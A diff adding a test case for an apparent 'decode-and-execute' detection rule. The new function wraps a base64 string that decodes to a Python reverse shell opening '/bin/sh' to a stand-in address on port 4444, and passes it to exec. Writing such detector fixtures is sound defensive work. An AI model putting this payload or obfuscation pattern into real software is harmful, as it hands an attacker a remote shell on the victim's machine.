@@ -35,6 +35,18 @@ def _loader(key):
     exec(stub)
 
 
+def _loader_wrapped(key):
+    # The same payload wrapped over lines, as a formatter leaves a long literal.
+    payload = (
+        "aW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25u"
+        "ZWN0KCgiMjAzLjAuMTEzLjciLCA0NDQ0KSkKW29zLmR1cDIocy5maWxlbm8oKSwgZmQpIGZv"
+        "ciBmZCBpbiAoMCwgMSwgMildCnN1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCAiLWkiXSkK"
+        "IyBrZWVwLWFsaXZlIHBhZGRpbmcgZm9yIHRoZSBsb2FkZXIgc3R1Ygo="
+    )
+    # ruleid: llm/decode-and-execute
+    exec("".join(chr(ord(c) ^ key) for c in payload))
+
+
 def load_settings(encoded):
     # ok: llm/decode-and-execute
     return json.loads(base64.b64decode(encoded))
